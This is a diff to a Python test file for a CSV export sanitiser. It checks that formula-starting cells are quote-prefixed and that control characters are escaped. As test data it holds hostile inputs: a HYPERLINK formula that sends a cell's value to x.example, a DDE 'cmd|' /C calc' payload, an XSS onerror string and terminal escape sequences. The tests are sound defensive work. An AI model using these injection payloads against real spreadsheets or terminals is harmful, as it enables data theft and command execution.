@@ -32,14 +32,14 @@ def test_text_cells_starting_with_formula_characters_are_prefixed():
     assert out["account"].tolist() == [
         '\'=HYPERLINK("http://x.example/?"&A1;"ok")',
         "'@SUM(1+1)",
-        # a signed plain number is no formula: written as recorded (QA session 9: a phone
-        # came back from reidentify as '+33612345616, the quote inside the data)
-        "+33 2 99",
-        "-5.2",
+        # a signed number in a text column is text and is neutralised (shared case 009;
+        # the exemption of session 9 is gone, QA session 10 item 1)
+        "'+33 2 99",
+        "'-5.2",
         "ok",
         "'-2+3+cmd|' /C calc'!A0",  # an operator and a pipe: a formula, prefixed
-        "+33612345616",
-        "+33 (0)6 12 34 56 16",
+        "'+33612345616",
+        "'+33 (0)6 12 34 56 16",
     ]
     assert out["score"].dtype == np.float64 and out["score"].iloc[0] == -5.2  # numbers stay numbers
 
@@ -49,6 +49,65 @@ def test_tab_and_carriage_return_prefixes_are_neutralised(tmp_path):
     lines = p.read_text(encoding="utf-8").splitlines()
     assert lines[1] == "'\tcmd"
     assert lines[0] == "x"
+
+
+def test_case_009_values_in_a_text_column_and_a_numeric_one(tmp_path):
+    # shared/cases/009-hostile-text/expected.md: text cells starting with =, +, -, @
+    # are prefixed with '; a text cell -5.2 is text and is neutralised; a score of
+    # -5.2 stays a number, unprefixed
+    df = pd.DataFrame(
+        {
+            "accounts_succeeded": [
+                '=HYPERLINK("http://x.example/?"&A1;"ok")',
+                "@SUM(1+1)",
+                "+33 2 99 00 00 00",
+                "-5.2",
+                "<img src=x onerror=alert(1)>",
+            ],
+            "score": [-5.2, 0.0, 1.5, 2.0, 3.0],
+        }
+    )
+    lines = write_csv(df, tmp_path / "s.csv").read_text(encoding="utf-8").splitlines()
+    assert lines == [
+        "accounts_succeeded,score",
+        '"\'=HYPERLINK(""http://x.example/?""&A1;""ok"")",-5.2',
+        "'@SUM(1+1),0.0",
+        "'+33 2 99 00 00 00,1.5",
+        "'-5.2,2.0",
+        "<img src=x onerror=alert(1)>,3.0",
+    ]
+
+
+def test_control_characters_are_visible_escapes_in_csv(tmp_path):
+    # QA session 10 item 2: `cat sources.csv` cleared the terminal
+    df = pd.DataFrame(
+        {
+            "account": [
+                "evil\x1b[31mRED\x1b[0m",
+                "\x1b[2J\x1b[Hcleared",
+                "pc-\x1b]0;pwn\x07",
+                "\rcmd",  # neutralised on the value as recorded, then shown
+                "a\u202eb\x85c\x7f",  # right-to-left override, C1 NEL, DEL
+                "tab\tkept",
+                None,
+            ],
+            "n": [1, 2, 3, 4, 5, 6, 7],
+        }
+    )
+    p = write_csv(df, tmp_path / "c.csv")
+    raw = p.read_bytes()
+    assert b"\x1b" not in raw and b"\x07" not in raw and b"\r" not in raw
+    assert p.read_text(encoding="utf-8").splitlines() == [
+        "account,n",
+        "evil\\x1b[31mRED\\x1b[0m,1",
+        "\\x1b[2J\\x1b[Hcleared,2",
+        "pc-\\x1b]0;pwn\\x07,3",
+        "'\\x0dcmd,4",
+        "a\\u202eb\\x85c\\x7f,5",
+        "tab\tkept,6",
+        ",7",
+    ]
+    assert df["account"].iloc[0] == "evil\x1b[31mRED\x1b[0m"  # the frame is not modified
 
 
 def test_json_is_deterministic_and_utc(tmp_path):
